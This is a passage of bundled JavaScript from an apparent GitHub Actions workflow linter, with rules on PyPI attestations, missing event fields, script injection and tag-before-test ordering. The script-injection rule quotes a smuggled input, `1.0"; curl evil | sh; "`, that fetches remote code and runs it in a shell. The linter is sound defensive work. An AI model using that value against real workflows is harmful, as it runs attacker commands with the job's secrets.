 * Whether `owner/name/path@ref` is an action or workflow of this very repository: `name` is the
 * repository's (its folder's or package.json's name) and `path` is here.
 */
function isOwnAction(repository, uses) {
    const [owner, name, ...path] = uses.split('@')[0].split('/');
    if (!owner || !name || !repository.selfNames.has(name.toLowerCase()))
        return false;
    const target = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(repository.root, ...path);
    if (path.join('/').startsWith('.github/workflows/'))
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(target);
    return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__/* .findActionFile */ .W$)(target) !== undefined;
}
/** Whether cibuildwheel's settings name a test command (it then runs the tests of each wheel). */
function readsCibuildwheelTests(root) {
    for (const name of ['pyproject.toml', 'cibuildwheel.toml']) {
        const path = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(root, name);
        if (!(0,node_fs__WEBPACK_IMPORTED_MODULE_0__.existsSync)(path))
            continue;
        const text = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(path, 'utf8');
        const section = /^\[tool\.cibuildwheel[^\]]*\]([\s\S]*?)(?=^\[(?!tool\.cibuildwheel)|(?![\s\S]))/m;
        const found = name === 'pyproject.toml' ? section.exec(text)?.[1] : text;
        if (found !== undefined && /^\s*test-command\s*=/m.test(found))
            return true;
    }
    return false;
}


/***/ }),

/***/ 49624:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AK: () => (/* binding */ stepAnchor),
/* harmony export */   Ey: () => (/* binding */ describeStep),
/* harmony export */   df: () => (/* binding */ positionOf),
/* harmony export */   xv: () => (/* binding */ truncate)
/* harmony export */ });
function positionOf(node, options = {}) {
    if (options.needle !== undefined)
        return node.find(options.needle);
    return options.key ? node.keyPos() : node.pos();
}
/** Where a finding about a step goes: the step's `uses:`/`run:` line or, if from a composite action, the job's step that uses it. */
function stepAnchor(step) {
    const top = step.via ?? step;
    return top.usesNode ?? top.runNode ?? top.node;
}
/** How a step is named in messages: its name, else its `uses:`, else its first command. */
function describeStep(step) {
    const own = step.name ?? step.uses ?? step.run?.trim().split('\n')[0] ?? 'a step';
    const line = (step.usesNode ?? step.runNode ?? step.node).pos().line;
    const where = step.via
        ? ` (in ${step.action?.ref ?? 'a composite action'}, ${step.action?.file.rel ?? ''}:${line})`
        : ` (line ${line})`;
    return `\`${truncate(own, 60)}\`${where}`;
}
function truncate(text, length) {
    const single = text.replace(/\s+/g, ' ').trim();
    return single.length > length ? `${single.slice(0, length - 1)}…` : single;
}


/***/ }),

/***/ 78711:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  y: () => (/* binding */ RULES)
});

;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/attestations.ts
/** A `#` comment on the line of `node` or alone on the line above it. */
function hasReason(file, node) {
    const line = node.pos().line;
    const own = file.lines[line - 1] ?? '';
    const above = file.lines[line - 2] ?? '';
    return /\s#\s*\S/.test(own) || /^\s*#\s*\S/.test(above);
}
const pypiAttestationsOff = {
    id: 'pypi-attestations-off',
    severity: 'warning',
    title: 'A PyPI upload turns attestations off without a comment saying why.',
    why: 'PEP 740 attestations tie each uploaded file to the workflow that built it, signed with Sigstore and verified by PyPI against the trusted publisher; pypa/gh-action-pypi-publish and publish-oidc make them by default. Turned off silently, they stay off long after the reason is gone, and users who verify provenance find none.',
    fix: 'Remove `attestations: false`, or keep it with a comment on the same line or just above saying why (a private index, a mirror that refuses the field).',
    bad: `on:
  workflow_dispatch: {}
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
        with:
          attestations: false
`,
    good: `on:
  workflow_dispatch: {}
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                for (const publish of facts.jobPublishes(job)) {
                    if (publish.registry !== 'pypi' && publish.registry !== 'testpypi')
                        continue;
                    const node = publish.step.with?.get('attestations');
                    if (node === undefined || node.str()?.trim().toLowerCase() !== 'false')
                        continue;
                    if (hasReason(publish.step.action?.file ?? workflow.file, node))
                        continue;
                    report(node, `${publish.tool} uploads to PyPI with attestations: false and no comment saying why: the files go up without PEP 740 attestations, so nothing ties them to this workflow. Remove the line (attestations are on by default), or say why on it.`);
                }
            }
        }
    },
};

// EXTERNAL MODULE: ./packages/workflow/src/context-references.ts
var context_references = __webpack_require__(16915);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/event-fields.ts
// `github.event.push.ref` reads as if it were the pushed ref, but no event's payload has a `push`
// field: the expression is always empty. In a concurrency group it makes one group for every run.

/**
 * Event names that are no field of any webhook payload, and where what was meant lives: the
 * payload of `push` has `ref` at its top, `pull_request_target`'s pull request is under
 * `pull_request`, `issues`' issue under `issue`.
 */
const MEANT = {
    push: '',
    workflow_dispatch: '',
    workflow_call: '',
    create: '',
    delete: '',
    repository_dispatch: '',
    status: '',
    watch: '',
    public: '',
    fork: '',
    gollum: '',
    pull_request_target: 'pull_request',
    issues: 'issue',
    issue_comment: 'comment',
    pull_request_review: 'review',
    pull_request_review_comment: 'comment',
};
const REFERENCE = /^github\.event\.([a-z_]+)((?:\.[\w-]+|\[[^\]]*\])*)/;
/** Every `github.event.<event name>…` reference in the workflow's expressions. */
function missingFields(workflow) {
    const found = [];
    const visit = (node, key, depth) => {
        if (depth > 40)
            return;
        if (node.isMap()) {
            for (const [name, value] of node.entries())
                visit(value, name, depth + 1);
            return;
        }
        if (node.isSeq()) {
            for (const item of node.items())
                visit(item, undefined, depth + 1);
            return;
        }
        const text = node.str();
        if (text === undefined)
            return;
        const form = key === 'if' && !text.includes('${{') ? 'expression' : 'template';
        if (!text.includes('github.event.'))
            return;
        for (const path of new Set((0,context_references/* contextReferences */.Q)(text, form))) {
            const match = REFERENCE.exec(path);
            if (!match || !(match[1] in MEANT))
                continue;
            const inner = MEANT[match[1]];
            const rest = match[2] ?? '';
            const meant = match[1] === 'workflow_call'
                ? `inputs${rest}`
                : `github.event${inner === '' ? '' : `.${inner}`}${rest}`;
            found.push({ node, path, meant });
        }
    };
    visit(workflow.node, undefined, 0);
    return found;
}
function isConcurrencyGroup(workflow, node) {
    const groups = [workflow.concurrency, ...workflow.jobs.map((job) => job.concurrency)];
    for (const concurrency of groups) {
        if (concurrency === undefined)
            continue;
        if (concurrency.node === node.node)
            return concurrency;
        if (concurrency.get('group')?.node === node.node)
            return concurrency;
    }
    return undefined;
}
const eventFieldMissing = {
    id: 'event-field-missing',
    severity: 'error',
    title: 'An expression reads `github.event.<event name>.…`, a field no event payload has.',
    why: "`github.event` is the payload of the event that started the run, and no payload has a field named after its event: `github.event.push.ref` is always empty (the pushed ref is `github.event.ref`). Nothing fails: the condition is false, the text is blank, and a concurrency group keyed on it is the same for every run, so a release waits for, or is cancelled by, another tag's release.",
    fix: 'Read the field where the payload has it: `github.event.ref` or `github.ref` for a push, `github.event.inputs.<name>` or `inputs.<name>` for a dispatch, `github.event.pull_request` under `pull_request_target`, `inputs.<name>` in a reusable workflow.',
    bad: `on: { push: { tags: ['v*'] } }
permissions: {}
concurrency:
  group: publish-\${{ github.event.push.ref }}
  cancel-in-progress: true
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { push: { tags: ['v*'] } }
permissions: {}
concurrency:
  group: publish-\${{ github.ref }}
  cancel-in-progress: false
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const { node, path, meant } of missingFields(workflow)) {
                const event = REFERENCE.exec(path)[1];
                const head = `\`${path}\` is always empty: no event's payload has a field named \`${event}\`.`;
                const concurrency = isConcurrencyGroup(workflow, node);
                if (concurrency === undefined) {
                    report(node, `${head} Read \`${meant}\` instead.`, { needle: path, severity: 'warning' });
                    continue;
                }
                const cancels = concurrency.get('cancel-in-progress')?.str() === 'true';
                const releases = facts.isReleaseWorkflow(workflow);
                report(node, `${head} This concurrency group is therefore the same for every run${cancels ? ', and with cancel-in-progress: true each run cancels the one before it, whatever tag or branch that one was releasing' : ': each run waits for the one before it, whatever tag or branch that one was releasing'}. Key the group on \`${meant}\`${event === 'push' ? ' (or `github.ref`)' : ''}.`, { needle: path, severity: cancels && releases ? 'error' : 'warning' });
            }
        }
    },
};

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./packages/workflow/src/source-model.ts
var source_model = __webpack_require__(28154);
// EXTERNAL MODULE: ./packages/workflow/src/expressions.ts + 1 modules
var expressions = __webpack_require__(27499);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/injection.ts
// `${{ }}` pasted into a script: the value becomes code before the shell sees it.


/**
 * Event fields that are numbers, ids, hashes, booleans, fixed words or the API and web addresses
 * GitHub makes (`html_url`, `*_url`: host, owner, repository name and a number): they cannot carry
 * a command.
 */
const SAFE_EVENT_FIELD = /\.(url|html_url|\w+_url|number|id|node_id|\w+_id|sha|\w+_sha|after|before|draft|merged|private|fork|size|\w+_count|additions|deletions|changed_files|run_attempt|run_number|created_at|updated_at|prerelease|forced|deleted|created|conclusion|status|action|login)$/;
/** Repository names are [A-Za-z0-9._-] (and `owner/name`), a fork's too: no command fits in one. */
const REPOSITORY_NAME_FIELD = /\.(repository|repo|head_repository)\.(name|full_name)$/;
const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment']);
/** GitHub login names are [A-Za-z0-9-] only: `github.actor`, `*.user.login` cannot carry a command. */
const LOGIN_FIELDS = new Set(['github.actor', 'github.triggering_actor', 'github.repository_owner']);
/**
 * Event fields that only maintainers can write: the base branch of a pull request is one of ours,
 * and the default branch is a repository setting only its admins change.
 */
const MAINTAINER_FIELDS = new Set([
    'github.event.pull_request.base.ref',
    'github.base_ref',
    'github.event.repository.default_branch',
]);
/** The events whose payload has each top-level field: elsewhere the field is always empty. */
const PAYLOAD_EVENTS = {
    release: ['release'],
    pull_request: [
        'pull_request',
        'pull_request_target',
        'pull_request_review',
        'pull_request_review_comment',
    ],
    issue: ['issues', 'issue_comment'],
    comment: ['issue_comment', 'commit_comment', 'pull_request_review_comment', 'discussion_comment'],
    review: ['pull_request_review'],
    head_commit: ['push'],
    commits: ['push'],
    workflow_run: ['workflow_run'],
    discussion: ['discussion', 'discussion_comment'],
};
function dangerous(path, scope) {
    const { inputs, events } = scope;
    const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(path)?.[1];
    if (input !== undefined) {
        const declared = inputs.find((each) => each.name === input);
        // GitHub refuses to start a workflow with an input it does not declare: it is always empty.
        if (!declared && events && (events.has('workflow_dispatch') || events.has('workflow_call')))
            return false;
        return !declared?.type || !SAFE_INPUT_TYPES.has(declared.type);
    }
    if (path === 'inputs' || path === 'github.event' || path === 'github.event.inputs')
        return true;
    if (path === 'github.head_ref')
        return true;
    if (LOGIN_FIELDS.has(path))
        return false;
    if (!path.startsWith('github.event.') || MAINTAINER_FIELDS.has(path))
        return false;
    const root = path.split('.')[2];
    const from = PAYLOAD_EVENTS[root];
    // A reusable workflow sees its caller's event, whatever its own `on:` says.
    if (from && events && events.size > 0 && !events.has('workflow_call'))
        if (!from.some((event) => events.has(event)))
            return false;
    if (root !== 'client_payload' && REPOSITORY_NAME_FIELD.test(path))
        return false;
    // A wiki page's address holds its title (gollum's `pages[*].html_url`).
    if (root === 'pages' && /url$/.test(path))
        return true;
    return root === 'client_payload' || !SAFE_EVENT_FIELD.test(path);
}
function envName(path) {
    const last = path.split('.').pop() ?? 'value';
    const name = last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase();
    return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`;
}
/** Reusable workflows and composite actions passing inputs on to each other: how far to follow. */
const MAX_CALL_DEPTH = 5;
/** Each scalar under `node` (a `with:` value, a matrix). */
function scalarTexts(node) {
    const text = node.str();
    if (text !== undefined)
        return [text];
    if (node.isSeq())
        return node.items().flatMap(scalarTexts);
    return node.entries().flatMap(([, value]) => scalarTexts(value));
}
/** The texts `matrix.<keys>` can take: the values under those keys, `include:` entries too. */
function matrixTexts(matrix, keys) {
    const [first, ...rest] = keys;
    if (first === undefined || first === '*' || matrix.str() !== undefined)
        return scalarTexts(matrix);
    const texts = [];
    let nodes = [];
    const own = matrix.get(first);
    if (own)
        nodes.push(...(own.isSeq() ? own.items() : [own]));
    const include = matrix.get('include');
    if (include?.str() !== undefined)
        texts.push(include.str());
    for (const entry of include?.items() ?? []) {
        const value = entry.get(first);
        if (entry.str() !== undefined)
            texts.push(entry.str());
        else if (value)
            nodes.push(value);
    }
    for (const key of rest) {
        const next = [];
        for (const node of nodes) {
            if (node.str() !== undefined || key === '*')
                texts.push(...scalarTexts(node));
            else if (node.isSeq())
                next.push(...node.items().flatMap((item) => item.get(key) ?? []));
            else {
                const value = node.get(key);
                if (value)
                    next.push(value);
            }
        }
        nodes = next;
    }
    return [...texts, ...nodes.flatMap(scalarTexts)];
}
/**
 * Follows `inputs.X` of a composite action, or of a workflow only other workflows start
 * (`workflow_call` without `workflow_dispatch`), to the callers in this repository: a workflow in
 * another repository that calls it runs with its own token, and gains nothing here.
 */
class InputTracer {
    repository;
    callers = new Map();
    constructor(repository) {
        this.repository = repository;
    }
    traceable(owner) {
        if ('action' in owner)
            return true;
        const events = owner.workflow.events;
        return events.has('workflow_call') && !events.has('workflow_dispatch');
    }
    /** Whether the inputs `path` reads (`inputs.x`, or `inputs` whole) can carry outsiders' text. */
    traceInputs(path, scope, depth = 0) {
        const match = /^inputs(?:\.([\w-]+))?$/.exec(path);
        if (!match || !this.traceable(scope.owner))
            return 'unknown';
        const names = match[1] !== undefined ? [match[1]] : this.inputNames(scope.owner);
        let unknown = false;
        for (const name of names) {
            const traced = this.input(scope.owner, name, depth + 1);
            if (traced === 'unknown')
                unknown = true;
            else if (traced)
                return { input: name, origin: traced };
        }
        return unknown ? 'unknown' : 'safe';
    }
    declared(owner) {
        return 'action' in owner ? owner.action.inputs : owner.workflow.inputs;
    }
    inputNames(owner) {
        const names = new Set(this.declared(owner).map((input) => input.name));
        for (const caller of this.callersOf(owner))
            for (const [name] of caller.with?.entries() ?? [])
                names.add(name);
        return [...names];
    }
    input(owner, name, depth) {
        if (depth > MAX_CALL_DEPTH)
            return 'unknown';
        const declared = this.declared(owner).find((input) => input.name === name);
        if (declared?.type && SAFE_INPUT_TYPES.has(declared.type))
            return undefined;
        const callers = this.callersOf(owner);
        if (callers.length === 0)
            return 'unknown';
        let unknown = false;
        for (const caller of callers) {
            const value = caller.with?.get(name);
            const fallback = value ? undefined : declared?.node.get('default');
            const node = value ?? fallback;
            if (!node)
                continue;
            for (const text of scalarTexts(node)) {
                const traced = this.text(text, caller.scope, depth);
                if (traced === 'unknown')
                    unknown = true;
                if (traced === 'unknown' || !traced)
                    continue;
                if (traced.where === undefined)
                    return {
                        ...traced,
                        kind: value ? 'passed' : 'default',
                        where: caller.label(value ?? caller.uses),
                    };
                return { ...traced, through: [...traced.through, caller.label(node)] };
            }
        }
        return unknown ? 'unknown' : undefined;
    }
    /** What a caller's value (a template) can carry, read in the caller's scope. */
    text(text, scope, depth) {
        let unknown = false;
        for (const path of (0,context_references/* contextReferences */.Q)(text)) {
            let traced;
            if (path === 'matrix' || path.startsWith('matrix.')) {
                // A static matrix is constants; one built from an expression is what that expression reads.
                const matrix = scope.matrix;
                if (!matrix)
                    continue;
                for (const each of matrixTexts(matrix, path.split('.').slice(1))) {
                    const found = this.text(each, { ...scope, matrix: undefined }, depth);
                    if (found) {
                        traced = found;
                        break;
                    }
                }
            }
            else if (!dangerous(path, scope))
                continue;
            else if (/^inputs(\.[\w-]+)?$/.test(path) && this.traceable(scope.owner)) {
                const inputs = this.traceInputs(path, scope, depth);
                if (inputs === 'safe')
                    continue;
                traced = inputs === 'unknown' ? 'unknown' : inputs.origin;
            }
            else
                traced = origin(path);
            if (traced === 'unknown')
                unknown = true;
            else if (traced)
                return traced;
        }
        return unknown ? 'unknown' : undefined;
    }
    callersOf(owner) {
        const key = 'action' in owner ? owner.action : owner.workflow;
        let found = this.callers.get(key);
        if (found)
            return found;
        found = [];
        this.callers.set(key, found);
        const dir = 'action' in owner ? external_node_path_.posix.dirname(owner.action.file.rel) : undefined;
        const calls = (uses) => {
            const path = (0,source_model/* localPath */.$S)(uses);
            return dir !== undefined && path !== undefined && external_node_path_.posix.normalize(path) === dir;
        };
        for (const workflow of this.repository.workflows) {
            const workflowScope = {
                inputs: workflow.inputs,
                events: workflow.events,
                owner: { workflow },
            };
            for (const job of workflow.jobs) {
                const label = (node) => `job "${job.id}" (${workflow.file.rel}:${node.pos().line})`;
                const scope = { ...workflowScope, matrix: job.strategy?.get('matrix') };
                if ('workflow' in owner && job.called === owner.workflow && job.uses)
                    found.push({ with: job.with, uses: job.uses, label, scope });
                for (const step of job.steps)
                    if (!step.via && step.usesNode && calls(step.uses))
                        found.push({ with: step.with, uses: step.usesNode, label, scope });
            }
        }
        for (const action of this.repository.actions)
            for (const step of action.steps)
                if (step.usesNode && calls(step.uses))
                    found.push({
                        with: step.with,
                        uses: step.usesNode,
                        label: (node) => `composite action ${action.ref} (${action.file.rel}:${node.pos().line})`,
                        scope: { inputs: action.inputs, events: undefined, owner: { action } },
                    });
        return found;
    }
}
function origin(path) {
    return { path, kind: 'passed', through: [] };
}
const scriptInjection = {
    id: 'script-injection',
    severity: 'error',
    title: '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expanded inside `run:` (script injection).',
    why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code. The `inputs` of a composite action, or of a workflow only other workflows start (`workflow_call` without `workflow_dispatch`), are followed to the callers in this repository: they are reported when a caller passes text an outsider writes (directly, through another input, or in the matrix it comes from), or when no caller here shows what they hold.',
    fix: 'Pass the value through `env:` (`env: TITLE: ${{ github.event.release.name }}`) and use `"$TITLE"` in the script.',
    bad: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing \${{ inputs.version }}"
`,
    good: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing $VERSION"
        env:
          VERSION: \${{ inputs.version }}
`,
    check({ repository, report }) {
        const tracer = new InputTracer(repository);
        const steps = [];
        for (const workflow of repository.workflows)
            for (const job of workflow.jobs)
                for (const step of job.steps)
                    if (!step.via)
                        steps.push({
                            step,
                            scope: { inputs: workflow.inputs, events: workflow.events, owner: { workflow } },
                            where: `job "${job.id}"`,
                        });
        for (const action of repository.actions)
            for (const step of action.steps)
                steps.push({
                    step,
                    scope: { inputs: [], events: undefined, owner: { action } },
                    where: `composite action ${action.ref}`,
                });
        for (const { step, scope, where } of steps) {
            const targets = [];
            if (step.runNode && step.run)
                targets.push([step.runNode, 'the shell script']);
            if ((0,source_model/* actionName */.aM)(step.uses) === 'actions/github-script') {
                const script = step.with?.get('script');
                if (script?.str())
                    targets.push([script, 'the github-script code']);
            }
            for (const [node, what] of targets) {
                const text = node.str() ?? '';
                const seen = new Set();
                for (const { expression, start, end } of (0,expressions/* scanExpressions */.BX)(text).found) {
                    const span = { text: text.slice(start, end) };
                    let path;
                    let traced;
                    for (const each of (0,context_references/* contextReferences */.Q)(expression, 'expression')) {
                        if (!dangerous(each, scope))
                            continue;
                        const inputs = tracer.traceInputs(each, scope);
                        if (inputs === 'safe')
                            continue;
                        path = each;
                        traced = inputs === 'unknown' ? undefined : inputs;
                        break;
                    }
                    if (!path || seen.has(span.text))
                        continue;
                    seen.add(span.text);
                    const name = envName(path);
                    const who = traced
                        ? `${whereFrom(traced.input, traced.origin)}, and whoever controls ${traced.origin.path} (${describe(traced.origin.path)})`
                        : `whoever controls ${path} (${describe(path)})`;
                    report(node, `\`${span.text}\` is pasted into ${what} of ${where} before it runs: ${who} can run their own commands there, with the job's token and secrets.`, {
                        needle: span.text,
                        fix: `Pass it through the step's \`env:\` (\`${name}: ${span.text}\`) and use \`"$${name}"\`${what === 'the shell script' ? '' : ' (process.env.' + name + ')'} instead.`,
                    });
                }
            }
        }
    },
};
/** `inputs.x is github.event.issue.title, passed by job "y" (file:line)`. */
function whereFrom(input, origin) {
    const how = origin.kind === 'passed'
        ? `passed by ${origin.where}`
        : `its default when ${origin.where} leaves it out`;
    const through = origin.through.length > 0 ? ` through ${origin.through.join(' and ')}` : '';
    return `inputs.${input} is ${origin.path}, ${how}${through}`;
}
function describe(path) {
    if (path === 'github.head_ref')
        return 'the branch name of a pull request';
    if (/inputs/.test(path))
        return 'whoever starts the workflow or calls it types it';
    if (/title|body|message|name|label|ref|tag_name|email|description|comment|review|head/.test(path))
        return 'text anyone opening an issue, a pull request, a branch or a release can write';
    return 'a value of the triggering event';
}

// EXTERNAL MODULE: ./packages/release-tools/src/commands.ts
var src_commands = __webpack_require__(26833);
// EXTERNAL MODULE: ./packages/cli/src/doctor/rule.ts
var rule = __webpack_require__(49624);
// EXTERNAL MODULE: ./packages/cli/src/doctor/step-kinds.ts
var step_kinds = __webpack_require__(28314);
// EXTERNAL MODULE: ./packages/cli/src/doctor/job-conditions.ts
var job_conditions = __webpack_require__(37242);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/ordering.ts
// The order of a release: tests before tags and publishes, one version computed once, no way
// around the test gate, tags on commits a branch holds, and publishes that a rerun can finish.





/**
 * The test jobs `job` does not wait for: those it could wait for (`parallel`), and those that wait
 * for it (`after`: adding them to its `needs:` would make a cycle).
 */
function testJobsNotUpstream(job, facts) {
    const upstream = new Set((0,source_model/* upstreamJobs */.oZ)(job));
    const parallel = [];
    const after = [];
    for (const other of job.workflow.jobs) {
        if (other === job || upstream.has(other) || !facts.isTestJob(other))
            continue;
        if ((0,source_model/* upstreamJobs */.oZ)(other).includes(job)) {
            if (runsMoreThanChecks(other, facts))
                after.push(other);
        }
        else
            parallel.push(other);
    }
    return { parallel, after };
}
/** `npm run check`, `pnpm check:types`: a lint or type check, not the test suite. */
const CHECK_SCRIPT = /^(npm|pnpm|yarn|bun)\s+(run\s+)?checks?([:_.-]\S*)?$/;
/**
 * A job downstream of a release counts as its tests only when it runs more than a check script
 * (a site deploy that type-checks its sources does not test the release).
 */
function runsMoreThanChecks(job, facts, seen = new Set()) {
    if (job.steps.some((step) => {
        const test = facts.tests(step);
        return test !== undefined && !CHECK_SCRIPT.test(test.trim());
    }))
        return true;
    const called = job.called;
    if (!called || seen.has(called))
        return false;
    seen.add(called);
    return called.jobs.some((inner) => runsMoreThanChecks(inner, facts, seen));
}
/** Commands that make a new Python project: a package made in the job is a test fixture. */
const NEW_PROJECT = [
    ['uv', 'init'],
    ['poetry', 'new'],
    ['poetry', 'init'],
    ['hatch', 'new'],
    ['pdm', 'init'],
    ['flit', 'init'],
];
/**
 * An upload to TestPyPI that is itself a test: from a workflow that no release starts (no tag
 * push, `release`, `workflow_dispatch` or `workflow_call`), from a job whose `if:` lets only a
 * branch push (or a pull request, a schedule) run it, or of a package a step of the job makes
 * from nothing (`uv init`, `poetry new`).
 */
function testPypiFixture(job, publish, facts) {
    if (publish.registry !== 'testpypi')
        return false;
    const events = job.workflow.events;
    const released = (0,job_conditions/* pushRunsOnTags */.D8)(job.workflow) ||
        ['release', 'workflow_dispatch', 'workflow_call'].some((event) => events.has(event));
    if (!released || (0,job_conditions/* runsForNoRelease */.oE)(job))
        return true;
    const index = job.steps.indexOf(publish.step);
    return job.steps.slice(0, index < 0 ? job.steps.length : index + 1).some((step) => (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts).some(({ words }) => {
        const tool = words[0]?.split('/').pop();
        return NEW_PROJECT.some(([name, sub]) => tool === name && words[1] === sub);
    }));
}
/**
 * A workflow that only runs after another one (`workflow_run`, judged by workflow-run-unchecked):
 * its tests ran there. With other triggers too (`workflow_dispatch`, `schedule`, `push`), those
 * runs wait for nothing, so the workflow is judged as for them.
 */
function gatedByAnotherWorkflow(workflow) {
    return (workflow.events.size > 0 &&
        [...workflow.events.keys()].every((event) => event === 'workflow_run'));
}
const ONLY_ON_WORKFLOW_RUN = /github\.event_name\s*==\s*'workflow_run'|github\.event\.workflow_run\.conclusion\s*==/;
/** A job that runs only when the workflow_run trigger fires (its `if:` or a job it needs says so). */
function jobGatedByAnotherWorkflow(job) {
    if (gatedByAnotherWorkflow(job.workflow))
        return true;
    if (!job.workflow.events.has('workflow_run'))
        return false;
    return [job, ...(0,source_model/* upstreamJobs */.oZ)(job)].some((each) => ONLY_ON_WORKFLOW_RUN.test(each.if?.str()?.replace(/github\.event_name\s*!=\s*'workflow_run'\s*\|\|[^&]*/g, '') ?? ''));
}
function needleOf(step, needle) {
    return step.via ? {} : { needle: needle.split('\n')[0] };
}
/** `job "a"`, `jobs "a", "b"`, or the first three of a long list and how many more. */
function jobsNamed(jobs) {
    const shown = jobs.length > 4 ? jobs.slice(0, 3) : jobs;
    const list = shown.map((job) => `"${job.id}"`).join(', ');
    const more = jobs.length - shown.length;
    return `${jobs.length === 1 ? 'job' : 'jobs'} ${list}${more > 0 ? ` and ${more} more` : ''}`;
}
/**
 * One finding for a step that tags or publishes before the tests: an error when test jobs run
 * beside it (add them to needs:), a warning when the tests run only after it (adding them to
 * needs: would make a cycle) or nowhere in this workflow.
 */
function reportUntested(report, job, facts, action, texts) {
    const { parallel: tests, after } = testJobsNotUpstream(job, facts);
    const line = (0,rule/* stepAnchor */.AK)(action.step).pos().line;
    const where = `Job "${job.id}" ${texts.does} (line ${line})`;
    const needle = needleOf(action.step, action.needle);
    if (tests.length === 0 && after.length > 0) {
        report((0,rule/* stepAnchor */.AK)(action.step), `${where} before any test: the tests of this workflow run after it, in ${jobsNamed(after)}, ${texts.beforeAny}`, {
            ...needle,
            severity: 'warning',
            fix: `Run the tests in a job that job "${job.id}" needs, and ${texts.afterFix}.`,
        });
    }
    else if (tests.length > 0) {
        report((0,rule/* stepAnchor */.AK)(action.step), `${where} without waiting for the tests in ${jobsNamed(tests)}: ${texts.parallel}`, {
            ...needle,
            fix: `Add ${tests.length === 1 ? `"${tests[0].id}"` : `[${tests.map((t) => t.id).join(', ')}]`} to \`needs:\` of job "${job.id}".`,
        });
    }
    else {
        report((0,rule/* stepAnchor */.AK)(action.step), `${where} and nothing in this workflow tests that commit first: ${texts.none}`, {
            ...needle,
            severity: 'warning',
            fix: `Run the tests in a job that job "${job.id}" needs (or call the CI workflow as a job, \`uses: ./.github/workflows/ci.yml\`, and add it to \`needs:\`).`,
        });
    }
}
function untestedTags(workflow, facts) {
    const found = new Map();
    if (gatedByAnotherWorkflow(workflow))
        return found;
    for (const job of workflow.jobs) {
        if (jobGatedByAnotherWorkflow(job))
            continue;
        const creation = facts.jobTags(job).find((each) => !facts.testedBefore(job, each.step));
        if (creation)
            found.set(job, creation);
    }
    return found;
}
const tagBeforeTest = {
    id: 'tag-before-test',
    severity: 'error',
    title: 'A tag or GitHub Release is created by a job that does not wait for the tests.',
    why: 'When the tests fail after the tag is pushed, the version is stranded: the tag (and often the release and its notes) exists for code that never passed, and has to be deleted by hand or skipped. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the tag). A job downstream of the tag that runs only a check script (`npm run check`, a site deploy) is not counted as its tests.',
    fix: 'Make the job that tags `needs:` the test job (or call the CI workflow as a job of this one, `uses: ./.github/workflows/ci.yml`, and need that).',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci && npm test
  tag:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: gh release create "v$(date +%Y.%-m.%-d)" --generate-notes
        env:
          GH_TOKEN: \${{ github.token }}
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
